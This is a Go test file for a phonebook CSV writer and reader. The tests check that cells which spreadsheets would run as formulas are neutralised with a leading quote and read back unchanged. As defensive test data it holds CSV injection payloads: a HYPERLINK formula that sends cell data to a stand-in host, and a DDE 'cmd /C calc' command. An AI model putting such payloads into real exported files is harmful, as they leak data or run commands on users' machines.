package csvbook_test

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"github.com/pbxagent/pbxagent/phonebook"
	"github.com/pbxagent/pbxagent/phonebook/csvbook"
)

// writeRow writes c and returns its row without the line ending.
func writeRow(t *testing.T, c *phonebook.Contact) string {
	t.Helper()
	var b bytes.Buffer
	w := csvbook.NewWriter(&b)
	if err := w.Write(c); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return strings.TrimSuffix(b.String(), "\n")
}

// TestWriterNeutralisesFormulas: a text cell a spreadsheet would run as a
// formula is written with a leading quote, and the Reader gives the text
// back; number cells are never escaped.
func TestWriterNeutralisesFormulas(t *testing.T) {
	mobile := []phonebook.Number{{Type: phonebook.NumberMobile, Value: "+38761111111"}}
	for _, tc := range []struct {
		name    string
		contact *phonebook.Contact
		row     string
	}{
		{name: "HYPERLINK in the first name", contact: &phonebook.Contact{FirstName: `=HYPERLINK("http://x/?"&A1)`, Numbers: mobile},
			row: `"'=HYPERLINK(""http://x/?""&A1)",,,,,mobile:+38761111111`},
		{name: "DDE in the last name", contact: &phonebook.Contact{LastName: "+cmd|' /C calc'!A0"},
			row: `,,'+cmd|' /C calc'!A0,,`},
		{name: "at sign in the company", contact: &phonebook.Contact{Company: "@SUM(1)"}, row: `,,,,'@SUM(1)`},
		{name: "minus in the middle name", contact: &phonebook.Contact{FirstName: "A", MiddleName: "-2+3"}, row: `A,'-2+3,,,`},
		{name: "formula e-mail", contact: &phonebook.Contact{FirstName: "A", Emails: []phonebook.Email{{Address: "=1+1@x.com"}}},
			row: `A,,,'=1+1@x.com,`},
		{name: "quote then formula gets one more quote", contact: &phonebook.Contact{FirstName: "'=x"}, row: `''=x,,,,`},
		{name: "quotes then formula", contact: &phonebook.Contact{FirstName: "''+x"}, row: `'''+x,,,,`},
		{name: "a leading quote of a name stays as is", contact: &phonebook.Contact{LastName: "'t Hooft"}, row: `,,'t Hooft,,`},
		{name: "formula character inside is harmless", contact: &phonebook.Contact{FirstName: "Ana-Marija", Company: "A+B"}, row: `Ana-Marija,,,,A+B`},
		{name: "display name as first name", contact: &phonebook.Contact{DisplayName: "=cmd", Numbers: mobile},
			row: `'=cmd,,,,,mobile:+38761111111`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			row := writeRow(t, tc.contact)
			if row != tc.row {
				t.Fatalf("row %s, want %s", row, tc.row)
			}
			got, _, _, err := readAll(t, row+"\n")
			if err != nil || len(got) != 1 {
				t.Fatalf("row %s reads as %d contacts, %v", row, len(got), err)
			}
			if a, w := view(got[0]), view(tc.contact); a.First != w.First || a.Middle != w.Middle || a.Last != w.Last ||
				a.Email != w.Email || a.Company != w.Company {
				t.Fatalf("row %s:\nread  %+v\nwrote %+v", row, a, w)
			}
		})
	}
}

// TestReaderUnescapesHandWrittenQuotes: the quote is removed only where
// the Writer would have put it.
func TestReaderUnescapesHandWrittenQuotes(t *testing.T) {
	got, _, _, err := readAll(t, "'=x,'-,'t Hooft,'@a.b,'\n'A,,,,\n")
	if err != nil || len(got) != 2 {
		t.Fatalf("%d contacts, %v", len(got), err)
	}
	c := got[0]
	if c.FirstName != "=x" || c.MiddleName != "-" || c.LastName != "'t Hooft" || c.Emails[0].Address != "@a.b" || c.Company != "'" {
		t.Fatalf("read %+v", c)
	}
	if got[1].FirstName != "'A" {
		t.Fatalf("read first name %q, want 'A", got[1].FirstName)
	}
}

// FuzzFormulaRoundTrip: any text the contact rule accepts is written as a
// cell no spreadsheet runs as a formula and reads back unchanged.
func FuzzFormulaRoundTrip(f *testing.F) {
	for _, s := range []string{"=1", "+1", "-", "@", "'", "'=", "''-x", "'t", "a=b", " =x", "\"=x\"", ",=x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if phonebook.CheckText(s) != nil || strings.TrimSpace(s) == "" {
			return
		}
		c := &phonebook.Contact{FirstName: s, LastName: s, Company: s}
		row := writeRow(t, c)
		for _, cell := range strings.SplitN(row, ",", 2)[:1] {
			cell = strings.TrimPrefix(cell, `"`)
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Fatalf("row %q starts with a formula character", row)
			}
		}
		got, _, _, err := readAll(t, row+"\n")
		if err != nil || len(got) != 1 {
			t.Fatalf("row %q reads as %d contacts, %v", row, len(got), err)
		}
		if g := got[0]; g.FirstName != s || g.LastName != s || g.Company != s {
			t.Fatalf("row %q reads back as %q %q %q, want %q", row, g.FirstName, g.LastName, g.Company, s)
		}
	})
}

// TestReaderAppliesTheTextRule: a cell with a control character makes its
// row malformed, naming the column, as the API refuses such text.
func TestReaderAppliesTheTextRule(t *testing.T) {
	for _, tc := range []struct {
		name, in, field, msg string
	}{
		{name: "NUL in the first name", in: "A\x00na,,,,\n", field: "column 1 (first name)", msg: "U+0000"},
		{name: "tab in a quoted company", in: "Ana,,,,\"x\ty\"\n", field: "column 5 (company)", msg: "U+0009"},
		{name: "escape in the e-mail", in: "Ana,,,a\x1b@b.c,\n", field: "column 4 (e-mail)", msg: "U+001B"},
		{name: "Google multi-line job title", in: googleHeader + "\n" + googleRow(map[string]string{"First Name": "A", "Organization Title": "x\ny"}),
			field: "Organization Title", msg: "U+000A"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, _, _, err := readAll(t, tc.in)
			var pe *csvbook.ParseError
			if !errors.As(err, &pe) || len(pe.Problems) == 0 {
				t.Fatalf("err = %v, want a ParseError", err)
			}
			p := pe.Problems[0]
			if p.Field != tc.field || !strings.Contains(p.Msg, tc.msg) {
				t.Fatalf("problem %v, want field %q and %q", p, tc.field, tc.msg)
			}
		})
	}
}

// TestReaderRefusesTooManyNumberCells: a row of more number cells than a
// contact may hold is one problem, not one per cell; padding with empty
// cells is fine.
func TestReaderRefusesTooManyNumberCells(t *testing.T) {
	cells := strings.Repeat(",work:1", 50_000)
	_, _, _, err := readAll(t, "A,,,,"+cells+"\nB,,,,"+strings.Repeat(",", 1000)+",work:2\n")
	var pe *csvbook.ParseError
	if !errors.As(err, &pe) || pe.Total != 1 || pe.Problems[0].Line != 1 || !strings.Contains(pe.Problems[0].Msg, "50000 number cells") {
		t.Fatalf("err = %v, want one problem on line 1 about 50000 number cells", err)
	}
}
